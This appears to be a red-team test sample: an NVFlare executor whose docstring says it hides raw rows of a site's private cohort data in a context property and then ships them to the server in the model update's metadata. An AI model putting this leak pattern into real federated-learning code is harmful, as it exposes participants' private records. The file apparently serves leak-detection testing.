"""NVFlare Executor (red team 7): initialize() parks raw rows in a private FLContext property (never sent by
itself); execute() reads the property back and puts it in the DXO's meta, which goes to the server."""
import numpy as np
from nvflare.apis.dxo import DXO, DataKind, from_shareable
from nvflare.apis.event_type import EventType
from nvflare.apis.executor import Executor
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal


class CohortTrainer(Executor):
    def handle_event(self, event_type: str, fl_ctx: FLContext):
        if event_type == EventType.START_RUN:
            data = np.load("/data/site/cohort.npy")
            fl_ctx.set_prop("cohort_cache", data[:20].tolist(), private=True, sticky=True)

    def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
        incoming = from_shareable(shareable)
        weights = {k: np.asarray(v) for k, v in incoming.data.items()}
        out = DXO(DataKind.WEIGHTS, data=weights, meta={"NUM_STEPS_CURRENT_ROUND": 1,
                                                          "cache": fl_ctx.get_prop("cohort_cache")})
        return out.to_shareable()
